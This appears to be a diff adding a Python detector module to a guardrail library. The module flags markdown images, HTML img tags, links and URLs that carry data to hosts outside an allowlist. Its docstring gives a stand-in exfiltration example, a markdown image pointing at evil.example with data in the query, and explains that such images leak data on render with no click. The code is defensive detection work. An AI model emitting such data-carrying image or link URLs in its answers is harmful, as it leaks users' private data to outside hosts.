@@ -1,0 +1,148 @@
+"""Exfiltration channels: links and images whose URL carries data to a host outside an
+allowlist, and URLs with long query strings.
+
+A markdown image (`![x](https://evil.example/p.png?d=...)`) or an HTML `<img>` is fetched
+by the client that renders the answer, with no click: any data in its URL leaves. A
+markdown link leaks when clicked. The data rides in the query string, the fragment, or a
+long path segment; a URL that is a template to fill in (`?q={secret}`, `[DATA]`, `$VAR`)
+is flagged whatever its length. Hosts are read as `url.host` reads them; a host in the
+allowlist, or a subdomain of one, never counts.
+"""
+
+from __future__ import annotations
+
+import functools
+from collections.abc import Sequence
+from urllib.parse import urlsplit
+
+from railguard.builtins.injection.hits import Hit
+from railguard.builtins.regex import Regex
+from railguard.builtins.registry import EvalError
+from railguard.builtins.urls import host as url_host
+
+KIND = "exfiltration"
+LINK_QUERY = 24  # query (or fragment) characters for a link to count as carrying data
+LONG_QUERY = 100  # query characters for a bare URL to count as a long query string
+LONG_SEGMENT = 32  # characters of a path segment of data (base64, hex, percent-encoding)
+
+
+@functools.cache
+def _patterns() -> dict[str, Regex]:
+    return {
+        "markdown": Regex(r"(!?)\[[^\]\n]{0,1000}\]\(\s*<?([^\s)>]+)[^)\n]{0,200}\)?"),
+        "reference": Regex(r"(?m)^\s{0,3}\[[^\]\n]{1,200}\]:\s*<?(\S+)"),
+        "img": Regex(r"<img\b[^>]*?\bsrc\s*=\s*[\"']?([^\"'\s>]+)", "i"),
+        "url": Regex(r"\bhttps?://[^\s<>\"'`)\]]+", "i"),
+        "template": Regex(
+            r"\{[^}]{0,80}\}|\$\{|\$[A-Z_]{3,}|\[[A-Z_ ]{3,}\]|%7B|<[a-z_]{3,}>", "i"
+        ),
+        "data": Regex(r"[A-Za-z0-9+/=_%\-]{" + str(LONG_SEGMENT) + ",}"),
+    }
+
+
+def find(text: str, hosts: Sequence[str]) -> list[Hit]:
+    """Every exfiltration-channel indicator in `text`, ignoring `hosts` and their subdomains."""
+    if "://" not in text and "](" not in text:
+        return []
+    p = _patterns()
+    out: list[Hit] = []
+    covered: list[tuple[int, int]] = []
+    for start, end in p["markdown"].finditer(text):
+        piece = text[start:end]
+        image = piece.startswith("!")
+        url = piece[piece.index("](") + 2 :].strip().lstrip("<").split(")")[0].split()[0:1]
+        covered.append((start, end))
+        if url:
+            out.extend(_judge(url[0].rstrip(">"), start, end, "image" if image else "link", hosts))
+    for start, end in p["img"].finditer(text):
+        src = text[start:end].split("src", 1)[1].lstrip(" =\t\"'")
+        covered.append((start, end))
+        out.extend(_judge(src, start, end, "image", hosts))
+    for start, end in p["url"].finditer(text):
+        if any(a <= start < b for a, b in covered):
+            continue
+        out.extend(_judge(text[start:end].rstrip(".,;:!?"), start, end, "url", hosts))
+    return out
+
+
+def _judge(url: str, start: int, end: int, shape: str, hosts: Sequence[str]) -> list[Hit]:
+    """A hit when `url` goes outside `hosts` and carries data (what counts depends on
+    `shape`: an image, a link or a bare URL)."""
+    try:
+        parts = urlsplit(url)
+    except ValueError:
+        return []
+    if parts.scheme.lower() not in ("http", "https", ""):
+        return []
+    if not parts.netloc and not url.startswith("//"):
+        return []  # a relative link: it stays on the page's own host
+    if _allowed(url, hosts):
+        return []
+    query = parts.query + parts.fragment
+    p = _patterns()
+    if p["template"].search(url.split("://", 1)[-1]):
+        weight = 0.9 if shape != "url" else 0.6
+        return [
+            Hit(
+                KIND,
+                f"{shape}_template",
+                start,
+                end,
+                weight,
+                f"a {_NAMES[shape]} URL with a placeholder to fill in with data",
+            )
+        ]
+    segment = any(len(s) >= LONG_SEGMENT and p["data"].fullmatch(s) for s in parts.path.split("/"))
+    if shape == "image" and (query or segment):
+        return [
+            Hit(
+                KIND,
+                "image_data",
+                start,
+                end,
+                0.9,
+                "an image URL that carries data to an outside host (sent with no click)",
+            )
+        ]
+    if shape == "link" and (len(query) >= LINK_QUERY or segment):
+        return [
+            Hit(
+                KIND,
+                "link_data",
+                start,
+                end,
+                0.7,
+                "a link URL that carries data to an outside host",
+            )
+        ]
+    if shape == "url" and len(query) >= LONG_QUERY:
+        return [
+            Hit(
+                KIND,
+                "long_query",
+                start,
+                end,
+                0.4,
+                f"a URL to an outside host with a query of {len(query)} characters",
+            )
+        ]
+    return []
+
+
+_NAMES = {"image": "image", "link": "link", "url": "bare"}
+
+
+def _allowed(url: str, hosts: Sequence[str]) -> bool:
+    if not hosts:
+        return False
+    try:
+        h = url_host(url if "://" in url else "https:" + url)
+    except EvalError:
+        return False  # a host a browser would refuse is not on any allowlist
+    if h is None:
+        return False
+    for allowed in hosts:
+        a = allowed.lower().rstrip(".")
+        if h == a or h.endswith("." + a):
+            return True
+    return False
